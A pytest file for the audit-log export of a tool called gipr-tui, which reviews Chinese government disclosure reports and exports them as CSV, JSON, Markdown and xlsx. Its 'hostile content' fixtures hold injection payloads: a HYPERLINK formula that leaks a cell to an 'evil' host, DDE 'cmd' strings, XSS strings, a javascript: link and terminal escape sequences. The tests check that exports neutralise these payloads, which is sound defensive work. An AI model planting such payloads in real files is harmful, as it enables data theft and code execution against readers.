"""The audit-log export as a reviewer reads it: csv for Excel, json, Markdown, xlsx."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import date

import checks
import pytest
from openpyxl import load_workbook

from store import AuditStore, ReportNotFound
from store.export import CSV_COLUMNS, csv_safe, default_export_path, md_escape
from store.xlsx import EVENT_SHEETS, SHEETS, SUMMARY_COLUMNS
from tests.store.helpers import fake_rule, parsed

CELL = "requests.new_received.total"
AT = "2026-01-02T03:04:05Z"


@pytest.fixture
def audited(tmp_path, monkeypatch):
    """Two reports with a correction, an undo, a confirmed and a waived finding, notes, a status."""
    monkeypatch.setattr(checks, "run_checks", fake_rule())
    s = AuditStore.open(tmp_path / "audit.json", "张审核")
    a = s.import_parsed(parsed(), "/r/luding.txt").report_id
    b = s.import_parsed(parsed(organ="甲|乙机关", year=2023), "/r/other.txt").report_id
    s.correct(a, CELL, 35, "原文 35")
    key = s.findings(a)[0]["key"]
    s.review_finding(a, key, "confirmed")
    s.correct(a, CELL, 34, "复核后改回")
    s.correct(a, "active.fees.amount", "1.5")
    s.undo(a)
    s.add_note(a, "第一行\n第二行 | 含竖线", target=CELL)
    s.correct(b, CELL, 1)
    s.review_finding(b, s.findings(b)[0]["key"], "waived", "口径不同")
    s.set_status(b, "已完成")
    yield s, a, b
    s.close()


def _csv_rows(text: str) -> list[dict]:
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:])))


# --- csv ----------------------------------------------------------------------------
def test_csv_has_a_bom_chinese_headers_machine_ids_and_one_row_per_event(audited):
    s, a, b = audited
    text = s.export("csv")
    header = text.splitlines()[0].lstrip("\ufeff")
    assert header == ",".join(CSV_COLUMNS)
    assert header.startswith("报告编号,机关,年度,记录类型,类型代码,单元格路径,单元格,规则编号")
    assert all(not c.isascii() for c in CSV_COLUMNS)  # every header is Chinese
    rows = _csv_rows(text)
    mine = [r for r in rows if r["报告编号"] == a]
    kinds = [r["类型代码"] for r in mine]
    assert kinds.count("correction") == 4 and kinds.count("note") == 1 and kinds[0] == "report"
    assert [r["记录类型"] for r in mine if r["类型代码"] == "note"] == ["备注"]
    fix = next(r for r in mine if r["类型代码"] == "correction" and r["说明"] == "原文 35")
    assert (fix["单元格路径"], fix["原值"], fix["新值"], fix["审核人"], fix["机关"], fix["年度"]) == (
        CELL, "34", "35", "张审核", "泸定县人民政府", "2024")
    assert fix["单元格"] == "一、本年新收政府信息公开申请数量·总计"
    review = next(r for r in mine if r["类型代码"] == "review" and r["状态"] == "已解决（更正后不再出现）")
    assert (review["规则编号"], review["单元格路径"]) == ("test.fixed_value", CELL)
    other = [r for r in rows if r["报告编号"] == b]
    [finding] = [r for r in other if r["类型代码"] == "finding"]
    assert finding["状态"] == "已豁免" and "口径不同" in finding["说明"] and finding["规则编号"] == "test.fixed_value"
    assert any(r["类型代码"] == "status" and r["新值"] == "已完成" for r in other)


def test_every_export_records_who_when_which_version_which_database(audited, monkeypatch):
    s, a, _ = audited
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1767323045")  # 2026-01-02T03:04:05Z
    from store.export import tool_version

    version = tool_version()
    assert version[:1].isdigit()
    first = _csv_rows(s.export("csv"))[0]
    assert (first["类型代码"], first["记录类型"], first["审核人"], first["时间"]) == ("export", "导出信息", "张审核", AT)
    assert f"gipr-tui {version}" in first["说明"] and str(s.path) in first["说明"] and "全部报告（2 份）" in first["说明"]
    info = json.loads(s.export("json"))["export"]
    assert info == {"auditor": "张审核", "time": AT, "tool": "gipr-tui", "version": version,
                    "database": str(s.path), "report": None, "reports": 2}
    md = s.export("md")
    for line in ("- 导出人：张审核", f"- 导出时间：{AT}", f"- 导出工具：gipr-tui {version}", "- 范围：全部报告（2 份）"):
        assert line in md
    assert f"- 数据库：{md_escape(str(s.path))}" in md
    wb = load_workbook(io.BytesIO(s.export_bytes("xlsx")))
    facts = {row[0]: row[1] for row in wb["导出信息"].iter_rows(min_row=2, values_only=True)}
    assert facts["导出人"] == "张审核" and facts["导出时间（UTC）"] == AT and facts["工具版本"] == version
    assert facts["数据库"] == str(s.path) and facts["报告数"] == 2
    assert wb.properties.creator == "张审核"


def test_one_report_only(audited):
    s, a, b = audited
    rows = _csv_rows(s.export("csv", report=b))
    assert {r["报告编号"] for r in rows} == {"", b}
    assert f"报告 {b}" in rows[0]["说明"]
    data = json.loads(s.export("json", report=b[:6]))  # a prefix names it too
    assert [r["id"] for r in data["reports"]] == [b] and data["export"]["report"] == b
    md = s.export("md", report=a)
    assert "泸定县人民政府" in md and "甲\\|乙机关" not in md
    wb = load_workbook(io.BytesIO(s.export_bytes("xlsx", report=a)))
    assert [r[0] for r in wb["概要"].iter_rows(min_row=2, values_only=True)] == [a]
    with pytest.raises(ReportNotFound) as err:
        s.export("csv", report="ffffffffffff")
    assert "ffffffffffff" in str(err.value)
    with pytest.raises(ReportNotFound):
        s.export("csv", report="")


def test_json_is_structured_per_report(audited):
    s, a, b = audited
    data = json.loads(s.export("json"))
    assert data["schema"] == "gipr-audit/1"
    by_id = {r["id"]: r for r in data["reports"]}
    assert set(by_id) == {a, b}
    ra = by_id[a]
    assert [c["kind"] for c in ra["corrections"]] == ["edit", "edit", "edit", "undo"]
    assert [v["decision"] for v in ra["reviews"]] == ["confirmed", "resolved"]
    assert ra["findings"] == [] and ra["notes"][0]["target"] == CELL
    assert by_id[b]["findings"][0]["status"] == "已豁免" and by_id[b]["status"] == "已完成"


def test_markdown_report_and_escaping(audited):
    s, a, b = audited
    md = s.export("md")
    assert "## 泸定县人民政府 2024年" in md and "### 更正记录" in md and "### 备注" in md
    assert "第一行<br>第二行 \\| 含竖线" in md
    assert "甲\\|乙机关" in md
    for line in md.splitlines():
        if line.startswith("| ") and "第一行" in line:
            assert line.count(" | ") == 4  # five columns: the note did not break the table


def test_exports_apart_from_their_record_are_deterministic_and_written_to_out(audited, monkeypatch):
    s, _, _ = audited
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1767323045")
    for fmt in ("csv", "json", "md"):
        buf = io.StringIO()
        assert s.export(fmt, buf) == s.export(fmt) == buf.getvalue()
    for fmt in ("xls", "xlsx"):  # xlsx is bytes: export_bytes
        with pytest.raises(ValueError):
            s.export(fmt)


def test_empty_database_exports_its_record_only(tmp_path):
    with AuditStore.open(tmp_path / "audit.json") as s:
        rows = _csv_rows(s.export("csv"))
        assert [r["类型代码"] for r in rows] == ["export"]
        data = json.loads(s.export("json"))
        assert data["schema"] == "gipr-audit/1" and data["reports"] == [] and data["export"]["reports"] == 0
        assert "没有报告" in s.export("md")
        wb = load_workbook(io.BytesIO(s.export_bytes("xlsx")))
        assert wb.sheetnames == list(SHEETS) and wb["概要"].max_row == 1


# --- xlsx ---------------------------------------------------------------------------
def test_xlsx_summary_and_one_sheet_per_kind_with_frozen_chinese_headers(audited, tmp_path):
    s, a, b = audited
    path = s.export_to(tmp_path / "audit.xlsx", "xlsx")
    assert path == tmp_path / "audit.xlsx"
    wb = load_workbook(path)
    assert wb.sheetnames == ["概要", "检查发现", "更正记录", "复核记录", "备注", "状态变更", "导出信息"]
    for ws in wb.worksheets:
        assert ws.freeze_panes == "A2", ws.title
        header = [c.value for c in ws[1]]
        assert all(h and not h.isascii() or h == "sha256" for h in header), (ws.title, header)
        assert all(c.font.b for c in ws[1])
    assert [c.value for c in wb["概要"][1]] == list(SUMMARY_COLUMNS)
    for name, columns in EVENT_SHEETS.items():
        assert [c.value for c in wb[name][1]] == ["报告编号", "机关", "年度", *columns]
    summary = {row[0]: dict(zip(SUMMARY_COLUMNS, row)) for row in wb["概要"].iter_rows(min_row=2, values_only=True)}
    assert summary[a]["更正"] == 4 and summary[a]["备注"] == 1 and summary[a]["复核"] == 2
    assert summary[b]["审核状态"] == "已完成" and summary[b]["检查发现"] == 1 and summary[b]["年度"] == 2023
    fixes = list(wb["更正记录"].iter_rows(min_row=2, values_only=True))
    assert len(fixes) == 5
    first = dict(zip([c.value for c in wb["更正记录"][1]], fixes[0]))
    assert (first["单元格路径"], first["原值"], first["新值"], first["理由"], first["审核人"]) == (CELL, 34, 35, "原文 35", "张审核")
    assert isinstance(first["新值"], int)  # a count stays a number
    [waived] = [r for r in wb["检查发现"].iter_rows(min_row=2, values_only=True) if r[0] == b]
    assert "已豁免" in waived and "口径不同" in waived and "test.fixed_value" in waived
    [status] = wb["状态变更"].iter_rows(min_row=2, values_only=True)
    assert status[0] == b and "已完成" in status


# --- hostile content ----------------------------------------------------------------
HOSTILE_ORGAN = '=HYPERLINK("http://evil/?"&A1,"点我")<script>alert(1)</script>'
HOSTILE_NOTES = [
    "-2+3+SUM(A1:A9)",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "＝1+1",
    "-5",
    "<img src=x onerror=alert(1)> & <b>粗</b>",
    "![追踪](http://evil/p.png) [点我](javascript:alert(1)) `代码` *强调* ~~删~~ a|b",
    "标题\x1b]52;c;ZXZpbA==\x07 清屏\x1b[2J 反向\u202egnp.exe",
]
# correction reasons are kept as typed (notes are stripped)
HOSTILE_REASONS = ["\t=1+1", "\r=1+1", "  =1+1", "\n=1+1", "-1+1"]


@pytest.fixture
def hostile(tmp_path):
    s = AuditStore.open(tmp_path / "audit.json", "=审核人")
    rid = s.import_parsed(parsed(organ=HOSTILE_ORGAN), "/r/=evil.txt").report_id
    for note in HOSTILE_NOTES:
        s.add_note(rid, note)
    for i, reason in enumerate(HOSTILE_REASONS):
        s.correct(rid, CELL, 35 + i, reason)
    yield s, rid
    s.close()


def test_csv_neutralises_every_formula_start_and_keeps_genuine_numbers(hostile):
    s, rid = hostile
    rows = _csv_rows(s.export("csv"))
    notes = [r["说明"] for r in rows if r["类型代码"] == "note"]
    assert len(notes) == len(HOSTILE_NOTES)
    for note in notes:
        first = note.lstrip(" \u3000")[:1]
        assert first not in "=+-@\t\r\n＝＋－＠" or note.startswith("'"), note
    assert "'-2+3+SUM(A1:A9)" in notes and "'-5" in notes and "'＝1+1" in notes and "'+1+cmd|' /C calc'!A0" in notes
    for r in rows:  # the organ name on every row, the auditor, the reason
        if r["报告编号"]:
            assert r["机关"] == "'" + HOSTILE_ORGAN
        if r["审核人"]:
            assert r["审核人"] == "'=审核人"
    fixes = [r for r in rows if r["类型代码"] == "correction"]
    assert [r["说明"] for r in fixes] == ["'" + reason for reason in HOSTILE_REASONS]
    assert (fixes[0]["原值"], fixes[0]["新值"]) == ("34", "35")  # int values stay numbers
    text = s.export("csv")
    assert "\x1b" not in text and "\u202e" not in text and "\\x1b]52;c;" in text and "\\u202e" in text


def test_csv_safe():
    assert csv_safe(-5) == "-5" and csv_safe(35) == "35" and csv_safe(None) == ""
    assert csv_safe("-5") == "'-5" and csv_safe("=A1") == "'=A1" and csv_safe("@x") == "'@x"
    assert csv_safe("a=b") == "a=b" and csv_safe("") == "" and csv_safe("泸定") == "泸定"


def test_markdown_passes_no_html_links_images_or_code_from_the_database(hostile):
    s, _ = hostile
    md = s.export("md")
    assert "<script>" not in md and "<img" not in md and "<b>" not in md
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in md and "&lt;img src=x onerror=alert(1)&gt; &amp; &lt;b&gt;粗" in md
    assert "![" not in md and "](" not in md.replace("\\](", "")
    assert "\\!\\[追踪\\]" in md or "!\\[追踪\\]" in md
    assert "\\`代码\\`" in md and "\\*强调\\*" in md and "\\~\\~删\\~\\~" in md
    assert "\x1b" not in md and "\u202e" not in md and "\x07" not in md
    # every line of a table still has its five columns
    for line in md.splitlines():
        if line.startswith("| ") and "审核人" not in line and "---" not in line and "整份报告" in line:
            assert line.count(" | ") == 4, line
    # only the tool's own <br> remains as HTML
    assert set(__import__("re").findall(r"<[a-z/][^>]*>", md)) <= {"<br>"}


def test_md_escape():
    assert md_escape("a|b\r\nc") == "a\\|b<br>c" and md_escape(None) == ""
    assert md_escape("<a href='x'>&</a>") == "&lt;a href='x'&gt;&amp;&lt;/a&gt;"
    assert md_escape("`x` [y](z) *w* _v_") == "\\`x\\` \\[y\\](z) \\*w\\* \\_v\\_"


def test_json_keeps_hostile_text_exactly_but_inert_on_a_terminal(hostile):
    s, _ = hostile
    text = s.export("json")
    assert "\x1b" not in text and "\u202e" not in text
    data = json.loads(text)
    [report] = data["reports"]
    assert report["organ"] == HOSTILE_ORGAN
    assert [n["text"] for n in report["notes"]] == HOSTILE_NOTES


def test_xlsx_holds_hostile_text_as_text_never_a_formula(hostile, tmp_path):
    s, rid = hostile
    path = s.export_to(tmp_path / "h.xlsx", "xlsx")
    wb = load_workbook(path)
    organ = wb["概要"]["B2"]
    assert organ.value == HOSTILE_ORGAN and organ.data_type == "s" and organ.quotePrefix
    notes = [row[6] for row in wb["备注"].iter_rows(min_row=2)]
    assert [c.value for c in notes][:-1] == HOSTILE_NOTES[:-1]
    assert all(c.data_type == "s" for c in notes) and notes[0].quotePrefix
    assert "\\x1b]52" in notes[-1].value and "\\u202e" in notes[-1].value
    reasons = [row[11] for row in wb["更正记录"].iter_rows(min_row=2)]
    assert [c.value for c in reasons] == HOSTILE_REASONS and all(c.data_type == "s" and c.quotePrefix for c in reasons)
    with zipfile.ZipFile(path) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in z.read(n) or b"<f " in z.read(n) for n in sheets)  # no formula anywhere


# --- where it goes ------------------------------------------------------------------
def test_write_goes_through_a_temporary_file_and_replaces(audited, tmp_path, monkeypatch):
    s, _, _ = audited
    target = tmp_path / "out.csv"
    target.write_text("old", encoding="utf-8")
    seen = []
    import os as _os

    real = _os.replace
    monkeypatch.setattr(_os, "replace", lambda src, dst: (seen.append((str(src), str(dst))), real(src, dst))[1])
    s.export_to(target, "csv")
    assert len(seen) == 1 and seen[0][1] == str(target) and seen[0][0] != str(target)
    assert _os.path.dirname(seen[0][0]) == str(tmp_path)  # beside the target
    assert target.read_text(encoding="utf-8-sig").startswith("报告编号")
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith("out.csv")) == ["out.csv"]


def test_default_export_path_is_never_the_current_directory(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "data"))
    monkeypatch.setenv("XDG_DOCUMENTS_DIR", str(tmp_path / "home" / "文档"))
    path = default_export_path("xlsx", organ="泸定县/人民政府", year=2024, today=date(2026, 1, 2))
    assert path.parent != tmp_path and tmp_path in path.parents and path.is_absolute()
    assert path.name == "gipr-审核记录-泸定县_人民政府-2024年-20260102.xlsx"
    (tmp_path / "home" / "文档").mkdir(parents=True)
    in_docs = default_export_path("csv", today=date(2026, 1, 2))
    assert in_docs.parent == tmp_path / "home" / "文档" / "gipr-tui 导出"
    in_docs.parent.mkdir()
    in_docs.write_text("x")
    assert default_export_path("csv", today=date(2026, 1, 2)).name == "gipr-审核记录-20260102-2.csv"  # never overwrites
